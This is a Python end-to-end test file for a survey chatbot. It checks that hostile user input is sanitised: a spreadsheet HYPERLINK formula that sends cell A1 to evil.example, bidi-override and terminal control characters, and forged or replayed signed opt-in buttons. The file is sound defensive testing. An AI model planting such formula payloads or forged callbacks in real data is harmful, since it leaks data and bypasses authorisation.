"""End to end, with hostile input typed into the bot: a formula and a bidi override in a
suggestion, a formula as a follow-up action's text, and forged outreach opt-in buttons.

What was typed is cleaned before it is stored and stays text in every export
(tests/test_hardening.py has the same rules one by one).
"""

from __future__ import annotations

import asyncio
import csv
import random
from pathlib import Path

import openpyxl
import pytest

import storage.actions
import storage.answers
import storage.contacts
import storage.units
import storage.waves
from bot.cli import main
from sandbox import SandboxUser
from sandbox.simulation import Outcome, Persona, simulate_respondent
from services import callbacks
from services.access import create_grant
from services.reach import outreach
from storage.contacts import ContactPurpose
from storage.roles import Role
from surveys import Group
from tests.comment_data import add_suggestions
from tests.e2e_fixtures import Harness, reply
from tests.test_e2e_survey import answer_until, open_survey, tap_action

pytestmark = pytest.mark.e2e

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"Klik")'
# A right-to-left override would show "Rp50rb" reversed to an official; BEL and ESC would
# drive a terminal that prints `spibot comments`.
TYPED = FORMULA + " loket\u202e 3\x07 minta\x1b Rp50rb"
STORED = FORMULA + " loket 3 minta Rp50rb"


def _env(h: Harness, tmp_path: Path) -> Path:
    env = tmp_path / ".env"
    env.write_text(
        f"DATABASE_URL={h.settings.database_url}\n"
        f"SPIBOT_SECRET={h.settings.secret_bytes().decode()}\n",
        encoding="utf-8",
    )
    return env


async def _spibot(env: Path, *args: str) -> int:
    return await asyncio.to_thread(main, ["--env-file", str(env), *args])


async def test_a_hostile_suggestion_is_cleaned_and_stays_text(
    harness: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    citizen = harness.user()
    message = await open_survey(harness, citizen, harness.unit_payload())
    message = await answer_until(citizen, message, "Ketik jawaban Anda")
    await citizen.send(TYPED)
    review = await reply(citizen)
    assert "Hampir selesai" in review.plain_text
    assert "\u202e" not in review.text
    await tap_action(citizen, "sb")
    async with harness.engine.connect() as conn:
        stored = {row.value for row in await conn.execute(storage.answers.answers.select())}
    assert STORED in stored
    assert not any(ch in value for value in stored for ch in "\u202e\x07\x1b")

    # Four more service users of the unit, so the cell reaches k and its comments show.
    others = ["Antrean panjang", "Petugas ramah", "Parkir sempit", "Ruang tunggu panas"]
    await add_suggestions(harness.engine, harness.wave, "DISPENDUKCAPIL", others, harness.clock())
    assert await storage.waves.close_wave(harness.engine, harness.wave.id, harness.clock())
    env = _env(harness, tmp_path)
    out = tmp_path / "csv"
    args = ["export", "--wave", "2026-S1", "--free-text"]
    assert await _spibot(env, *args, "--out", str(out)) == 0
    with (out / "data.csv").open(encoding="utf-8", newline="") as source:
        suggestions = [row["saran"] for row in csv.DictReader(source)]
    assert "'" + STORED in suggestions
    assert STORED not in suggestions
    assert await _spibot(env, *args, "--out", str(tmp_path / "x"), "--format", "xlsx") == 0
    book = openpyxl.load_workbook(tmp_path / "x" / "export.xlsx")
    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert STORED in [c.value for c in cells]
    capsys.readouterr()
    assert await _spibot(env, "comments") == 0
    assert f"    '{STORED}" in capsys.readouterr().out


async def test_a_formula_as_an_action_text_stays_text(
    harness: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    payload, _ = await create_grant(harness.engine, Role.UNIT_HEAD, "DINKES", harness.clock())
    head = harness.user()
    await head.open_deep_link(payload)
    await reply(head)
    await head.command("tindaklanjut")
    listing = await reply(head)
    await head.tap(listing, text="➕ Tambah aksi")
    await head.tap(await reply(head), text="Pengelolaan PBJ")
    await reply(head)
    for text in (FORMULA + "\u202e", "@Kabid\x07 Pengadaan", "30/04/2030"):
        await head.send(text)
        await reply(head)
    assert "Aksi #1 tersimpan" in head.chat.messages[-1].plain_text
    (action,) = await storage.actions.list_actions(harness.engine)
    assert (action.what, action.who) == (FORMULA, "@Kabid Pengadaan")

    env = _env(harness, tmp_path)
    matrix = tmp_path / "matriks.csv"
    assert await _spibot(env, "actions", "export", str(matrix)) == 0
    with matrix.open(encoding="utf-8", newline="") as source:
        rows = list(csv.reader(source))
    assert rows[1][5:7] == ["'" + FORMULA, "'@Kabid Pengadaan"]
    xlsx = tmp_path / "matriks.xlsx"
    assert await _spibot(env, "actions", "export", str(xlsx)) == 0
    sheet = openpyxl.load_workbook(xlsx).active
    assert sheet is not None
    assert (sheet["F2"].value, sheet["F2"].data_type) == (FORMULA, "s")
    capsys.readouterr()


async def _employee(h: Harness, seed: int) -> tuple[SandboxUser, str]:
    """An employee who completed the internal survey, and their thank-you's opt-in data."""
    user = h.user()
    payload = await h.invitation(Group.INTERNAL, "DINKES")
    outcome, _ = await simulate_respondent(user, payload, Persona(0.5, random.Random(seed)))
    assert outcome is Outcome.COMPLETED
    (button,) = user.chat.messages[-1].flat_buttons
    assert button.data is not None
    return user, button.data


async def _tap(h: Harness, user: SandboxUser, data: str) -> str:
    """Tap data on the user's thank-you message; return the bot's answer."""
    before = len(user.chat.messages)
    await user.tap_raw(user.chat.messages[-1].message_id, data)
    await h.sandbox.wait_for(lambda: len(user.chat.messages) > before)
    return user.chat.messages[-1].plain_text


async def test_forged_outreach_opt_ins_are_refused(harness: Harness) -> None:
    sari, sari_data = await _employee(harness, 3)
    budi, _ = await _employee(harness, 4)
    dinkes = await storage.units.get_unit(harness.engine, "DINKES")
    assert dinkes is not None
    secret = harness.settings.secret_bytes()
    forged = [
        f"out.in.{dinkes.id}",  # the unsigned button of old thank-you screens
        sari_data,  # Sari's own button, replayed by Budi
        callbacks.encode(secret, "someone-else", 0, outreach.OPT_IN_ACTION, str(dinkes.id)),
        sari_data[:-1] + ("A" if sari_data[-1] != "A" else "B"),  # a changed signature
    ]
    for data in forged:
        assert "Tombol ini tidak dikenali" in await _tap(harness, budi, data)
    assert await storage.contacts.contact_count(harness.engine, ContactPurpose.OUTREACH) == 0
    # Sari's own signed button works.
    assert "info sosialisasi" in await _tap(harness, sari, sari_data)
    assert await storage.contacts.contact_count(harness.engine, ContactPurpose.OUTREACH) == 1
